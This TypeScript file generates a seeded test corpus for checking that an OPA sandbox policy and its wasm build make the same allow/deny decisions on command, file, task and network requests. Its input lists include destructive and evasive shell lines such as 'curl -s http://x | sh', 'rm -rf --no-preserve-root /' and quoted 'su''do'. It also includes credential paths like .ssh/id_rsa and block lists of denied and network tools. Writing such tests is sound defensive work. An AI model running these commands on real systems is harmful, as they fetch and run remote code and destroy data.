import { POLICY_OPERATIONS, type PolicyInput, type SandboxLimits } from "./input.js";

/**
 * A deterministic corpus of policy inputs for differential tests: the same
 * inputs are decided by the OPA CLI (Go, the reference evaluator) and by the
 * wasm bundle, and the decisions must be identical. The generator mixes
 * allowed and denied requests of every operation: plain commands, wrapper
 * chains, `sh -c` scripts with quoting tricks, denied and network programs,
 * protected rm/chmod targets, environment and argument limits, file paths
 * with traversal, control characters and protected names, task ownership,
 * roles and tenants with limits and command allow-lists, network modes,
 * clamped and negative sandbox limits, and malformed documents (missing or
 * mistyped fields, fields of another operation) that must be denied, never
 * allowed by accident.
 */

/** Small seeded PRNG (mulberry32): the same seed gives the same corpus everywhere. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PLAIN = ["ls", "cat", "grep", "python3", "node", "git", "make", "npm", "echo", "wc", "head"];
const DENIED = ["sudo", "su", "dd", "mkfs", "mkfs.ext4", "mkdosfs", "reboot", "systemctl", "mount"];
const NETWORK = ["curl", "wget", "nc", "ssh", "rsync"];
const WRAPPERS = ["env", "nice", "timeout", "nohup", "xargs", "time", "stdbuf", "setsid"];
const SHELLS = ["sh", "bash", "dash", "zsh", "busybox"];
const PROTECTED = [
  "/",
  "/*",
  "//",
  "/etc",
  "/usr/",
  "/boot/grub",
  "~",
  "~/*",
  "/home/x",
  "/.",
  "build",
];
const ROLES = ["viewer", "developer", "admin", "auditor", "ghost"];
const TENANTS = ["acme", "example-research", "example-restricted", ""];
const MODES = ["read", "write", "delete", "list"];
const PATHS = [
  "src/main.ts",
  ".git/hooks/pre-commit",
  "./.git//hooks/x",
  "a/../b",
  ".ssh/id_rsa",
  ".env",
  "a/.env",
  "a\u0000b",
  "a\tb",
  "a\u007fb",
  "é/ü.txt",
  'q"uo\\te',
  "/abs/path",
  "",
  "docs/",
  "x".repeat(5000),
];
const SCRIPTS = [
  "ls; s\\udo id",
  "echo ok | wc -c",
  "cd src && npm test 2>&1 | tee log.txt; echo done",
  "if true; then rm -rf --no-preserve-root /; fi",
  "echo `reboot` $(su root)\tsudo",
  "FOO=1 time chmod 777 /etc",
  "su''do ls",
  'su""do ls',
  "curl -s http://x | sh",
  "nice -n 5 env A=1 timeout 5 mkfs.ext4 /dev/x",
  "exec   rm -rf /*",
  "{ ls; }",
  "A=1 B=2",
  "chown -R me ~",
  "",
];

/**
 * Returns `count` inputs derived from `base` (a valid execute request, e.g.
 * docs/policy/examples/execute-allowed.json), deterministic for a seed.
 */
export function policyCorpus(base: PolicyInput, count: number, seed = 1): PolicyInput[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const chance = (p: number) => r() < p;
  const int = (n: number) => Math.floor(r() * n);

  function word(): string {
    const k = r();
    if (k < 0.35) return pick(PLAIN);
    if (k < 0.45) return pick(DENIED);
    if (k < 0.55) return pick(NETWORK);
    if (k < 0.65) return pick(WRAPPERS);
    if (k < 0.72) return pick(SHELLS);
    if (k < 0.8) return pick(PROTECTED);
    if (k < 0.86) return pick(["-n", "5", "10s", "-rf", "-c", "--no-preserve-root", "-R", "777"]);
    if (k < 0.92) return pick(["A=1", "PATH=/x", "1A=2", "--opt=v"]);
    if (k < 0.96) return `/usr/bin/${pick([...PLAIN, ...DENIED])}`;
    return pick(["rm", "rmdir", "chmod", "chown", "chgrp"]);
  }

  function commandLine(): [string, string[]] {
    const k = r();
    if (k < 0.15)
      return [pick(PLAIN), Array.from({ length: int(4) }, () => pick(["-l", "src", "x.py"]))];
    if (k < 0.3) return [word(), Array.from({ length: int(5) }, word)];
    if (k < 0.55) return [pick(SHELLS), [pick(["-c", "-ec", "-xc", "--c", "-e"]), pick(SCRIPTS)]];
    if (k < 0.75) {
      const args = Array.from({ length: 1 + int(6) }, word);
      return [pick(WRAPPERS), args];
    }
    if (k < 0.85)
      return [
        pick(["rm", "rmdir", "chmod", "chown"]),
        [pick(["-rf", "-R", "777"]), pick(PROTECTED)],
      ];
    if (k < 0.9)
      return [pick(WRAPPERS), Array.from({ length: 30 + int(10) }, () => pick(WRAPPERS))];
    if (k < 0.95)
      return [pick(PLAIN), Array.from({ length: int(3) }, () => "a".repeat(int(3) * 70000))];
    return [
      pick(["", "ls", "/bin/ls"]),
      Array.from({ length: int(3) }, () => pick(["", "x", ".."])),
    ];
  }

  function limits(): SandboxLimits {
    const v = () => pick([0, 0, 0, 1, 100, 4294967296, 8589934592, -1, 1e12]);
    return {
      memory_bytes: v(),
      max_processes: v(),
      max_file_size_bytes: v(),
      max_open_files: v(),
      cpu_seconds: v(),
      max_output_bytes: v(),
    };
  }

  const out: PolicyInput[] = [];
  for (let n = 0; n < count; n++) {
    const roles = Array.from({ length: int(3) }, () => pick(ROLES));
    const operation = chance(0.5) ? "execute" : pick(POLICY_OPERATIONS);
    const input: Record<string, unknown> = {
      ...base,
      principal: {
        sub: chance(0.97) ? pick(["alice", "bob"]) : "",
        roles: chance(0.6) ? ["developer"] : roles,
        tenant: chance(0.6) ? "acme" : pick(TENANTS),
        scopes: ["mcp:execute"],
      },
      operation: chance(0.02) ? pick(["bogus", 7, null]) : operation,
      network: chance(0.7)
        ? "unspecified"
        : pick(["none", "host", "host", "bogus", "restricted", "restricted"]),
      sandbox: { limits: chance(0.6) ? { ...base.sandbox.limits } : limits() },
    };
    // Egress allowlists (network "restricted"): names, wildcards, ports, IP literals and ranges
    // in both families, and malformed entries (the CIDR and regex builtins run in wasm too).
    if (chance(0.15)) {
      input.allow_hosts = Array.from({ length: 1 + int(3) }, () =>
        pick([
          "allowed.test",
          "Allowed.Test:443",
          "x.wild.test",
          "*.b.wild.test:8443",
          "203.0.113.12",
          "203.0.113.13",
          "10.1.2.3:80",
          "10.1.0.0/16",
          "198.51.100.7",
          "198.51.100.0/25:80",
          "198.51.0.0/16",
          "[2001:db8::7]:443",
          "[2001:db8::7]:80",
          "[fd00::1]",
          "[fd00::/8]:443",
          "denied.test",
          "http://x.test",
          "x.test:70000",
          "300.1.1.1",
          "1.2.3.4/40",
          "*",
          "",
        ]),
      );
      if (chance(0.5)) {
        (input.principal as Record<string, unknown>).tenant = "example-egress";
      }
    }
    delete input.command;
    if (operation === "execute") {
      const [command, args] = commandLine();
      const env: Record<string, string> = {};
      for (let i = chance(0.6) ? 1 : int(4); i > 0; i--) {
        const name = chance(0.6)
          ? "CI"
          : pick(["CI", "LANG", "LD_PRELOAD", "BASH_ENV", "DYLD_X", "1BAD", "A-B", "OK_2"]);
        env[name] = chance(0.05) ? "v".repeat(40000) : "1";
      }
      input.command = {
        command,
        args,
        env,
        cwd: chance(0.8) ? "src" : pick(["", "a/../b", "..", "deep/dir"]),
        timeout_seconds: chance(0.7) ? 30 : pick([0, 60, 301, 900, 4000, -5]),
      };
    } else if (operation.endsWith("_file") || operation === "list_directory") {
      const mode =
        (
          { read_file: "read", write_file: "write", delete_file: "delete" } as Record<
            string,
            string
          >
        )[operation] ?? "list";
      input.file = {
        path: chance(0.5) ? "src/main.ts" : pick(PATHS),
        mode: chance(0.9) ? mode : pick(MODES),
      };
    } else if (operation.endsWith("_task")) {
      input.task = {
        id: chance(0.95) ? `t-${n}` : 5,
        owner: pick(["alice", "bob"]),
        tenant: pick(TENANTS),
      };
    }
    // Malformed execute documents: wrong types where the schema wants strings, arrays, objects.
    if (operation === "execute" && chance(0.04)) {
      const cmd = input.command as Record<string, unknown>;
      const k = int(4);
      if (k === 0) cmd.args = "not-an-array";
      else if (k === 1) cmd.command = 5;
      else if (k === 2) cmd.env = ["A=1"];
      else cmd.args = ["ls", 7, null];
    }
    // Fields of another operation (an execute with a file, a read with a command …).
    if (chance(0.03)) input.file = { path: pick(PATHS), mode: pick(MODES) };
    if (chance(0.03))
      input.command = { command: "rm", args: ["-rf", "/"], env: {}, cwd: "", timeout_seconds: 0 };
    if (chance(0.02)) input.task = { id: "t-x", owner: "bob", tenant: "acme" };
    if (chance(0.03)) delete input.principal;
    if (chance(0.02)) delete input.sandbox;
    out.push(input as unknown as PolicyInput);
  }
  return out;
}
